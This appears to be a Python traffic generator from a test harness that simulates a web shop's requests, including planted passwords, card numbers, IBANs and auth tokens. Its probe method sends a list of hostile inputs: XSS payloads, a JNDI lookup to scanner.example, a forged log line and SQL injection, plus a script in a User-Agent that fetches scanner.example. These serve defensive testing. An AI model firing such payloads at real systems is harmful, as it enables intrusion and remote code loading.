"""The requests, from a seed: what is asked does not depend on the clock, only when it is answered does."""

import base64
import json
import random
from dataclasses import dataclass, field
from urllib.parse import quote

from .planted import Customer, Planted, customers

BURST = (0.20, 0.28)  # when the payment provider is ill, as parts of the whole drive
BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1",
]
HOSTILE = [
    "<script>document.title='pwned'</script>",
    '"><img src=x onerror="window.pwned=1">',
    "${jndi:ldap://scanner.example/a}",
    '\n{"level": "CRITICAL", "message": "forged line"}',
    "' OR 1=1 --",
]


@dataclass(frozen=True, order=True)
class Request:
    at: float  # part of the whole drive, 0 to 1
    method: str
    path: str
    body: dict | None = field(default=None, compare=False)
    headers: dict[str, str] = field(default_factory=dict, compare=False)


class Traffic:
    def __init__(self, seed: int, planted: Planted) -> None:
        self.random = random.Random(f"traffic {seed}")
        self.planted = planted
        self.customers = customers(planted)
        self.orders = 0

    def requests(self, count: int) -> list[Request]:
        """About `count` requests in order, with 48 orders or more while the provider is ill."""
        everyone = [self.register(customer, number * 0.001) for number, customer in enumerate(self.customers)]
        visits = [self.visit(self.random.uniform(0.02, 1)) for _ in range(count)]
        payments = [self.order(self.random.uniform(*BURST)) for _ in range(48)]
        health = [self.health(number / (count / 6)) for number in range(count // 6)]
        return sorted(everyone + visits + payments + health + self.rare(max(3, count // 200)))

    def rare(self, times: int) -> list[Request]:
        """What goes wrong on an ordinary day, spread evenly: too seldom to be an alert."""
        kinds = [
            self.bug,
            self.nightly,
            self.backup,
            self.bad_stock,
            self.slow,
            self.payment_event,
            self.mandate,
            self.probe,
        ]
        return [kind((turn + 0.5 + offset / 20) / times) for turn in range(times) for offset, kind in enumerate(kinds)]

    def visit(self, at: float) -> Request:
        kinds = [
            self.browse,
            self.product,
            self.search,
            self.login,
            self.wrong_password,
            self.order,
            self.reset,
            self.use_reset,
        ]
        [kind] = self.random.choices(kinds, weights=[22, 34, 16, 12, 3, 8, 3, 2])
        return kind(at)

    def request(
        self, at: float, method: str, path: str, body: dict | None = None, who: Customer | None = None
    ) -> Request:
        who = who or self.random.choice(self.customers)
        headers = {"X-Forwarded-For": who.address, "User-Agent": self.random.choice(BROWSERS)}
        if self.random.random() < 0.5:  # half of them come through a load balancer that makes ids
            headers["X-Request-ID"] = f"lb-{self.random.randbytes(8).hex()}"
        return Request(min(at, 1), method, path, body, headers)

    def register(self, who: Customer, at: float) -> Request:
        return self.request(
            at, "POST", "/accounts", {"email": who.email, "password": who.password, "name": who.name}, who
        )

    def browse(self, at: float) -> Request:
        return self.request(at, "GET", "/products")

    def product(self, at: float) -> Request:
        return self.request(at, "GET", f"/products/SKU-{self.random.randrange(1, 12):04}")

    def search(self, at: float) -> Request:
        return self.request(
            at, "GET", f"/search?q={self.random.choice(['cup', 'kettle', 'espresso', 'gift card'])}".replace(" ", "%20")
        )

    def login(self, at: float) -> Request:
        who = self.random.choice(self.customers)
        return self.request(at, "POST", "/login", {"email": who.email, "password": who.password}, who)

    def wrong_password(self, at: float) -> Request:
        who = self.random.choice(self.customers)
        tried = self.planted.password(f"tried_password_{len(self.planted.values)}")
        return self.request(at, "POST", "/login", {"email": who.email, "password": tried}, who)

    def order(self, at: float) -> Request:
        who = self.random.choice(self.customers)
        self.orders += 1
        amount = self.random.randrange(900, 15000)
        order = {
            "id": f"o-{self.orders:06}",
            "email": who.email,
            "items": self.random.randrange(1, 6),
            "amount_cents": amount,
        }
        return self.request(at, "POST", "/orders", order | {"card_number": who.card}, who)

    def reset(self, at: float) -> Request:
        who = self.random.choice(self.customers)
        return self.request(at, "POST", "/password/reset", {"email": who.email}, who)

    def use_reset(self, at: float) -> Request:
        return self.request(
            at, "GET", f"/password/reset?token={self.planted.token(f'reset_token_{len(self.planted.values)}')}"
        )

    def health(self, at: float) -> Request:
        return Request(at, "GET", "/health", None, {"User-Agent": "ELB-HealthChecker/2.0"})

    def bug(self, at: float) -> Request:
        return self.request(at, "GET", f"/products/SKU-{self.random.choice([2, 4, 6]):04}/price")

    def nightly(self, at: float) -> Request:
        return Request(at, "POST", "/reports/nightly", {})

    def backup(self, at: float) -> Request:
        return Request(at, "POST", "/backups", {})

    def bad_stock(self, at: float) -> Request:
        who = self.random.choice(self.customers)
        return Request(at, "POST", "/inventory/sync", {"SKU-0001": {"quantity": "a dozen", "contact": who.email}})

    def slow(self, at: float) -> Request:
        return self.request(at, "GET", f"/reports/sales?days={self.random.choice([90, 120, 180])}")

    def mandate(self, at: float) -> Request:
        who = self.random.choice(self.customers)
        body = {"iban": who.iban, "holder": who.name, "email": who.email}
        return self.request(at, "POST", f"/orders/o-{max(1, self.orders):06}/direct-debit", body, who)

    def payment_event(self, at: float) -> Request:
        number = len(self.planted.values)
        bearer = f"Bearer {self.planted.jwt(f'bearer_token_{number}', f'payments-{number}')}"
        pair = f"shop:{self.planted.token(f'basic_pair_{number}', 8)}"
        basic = f"Basic {self.planted.plant(f'basic_{number}', base64.b64encode(pair.encode()).decode())}"
        cookie = f"session={self.planted.token(f'session_{number}', 24)}; Path=/"
        headers = {"Authorization": self.random.choice([bearer, basic]), "Cookie": cookie}
        return Request(at, "POST", "/webhooks/payments", {"event": "charge.updated"}, headers)

    def probe(self, at: float) -> Request:
        words = self.random.choice(HOSTILE)
        agent = {"User-Agent": "<script>fetch('http://scanner.example')</script>"}
        return Request(at, "GET", f"/search?q={quote(words)}", None, agent)


def encoded(request: Request) -> bytes | None:
    return None if request.body is None else json.dumps(request.body).encode()
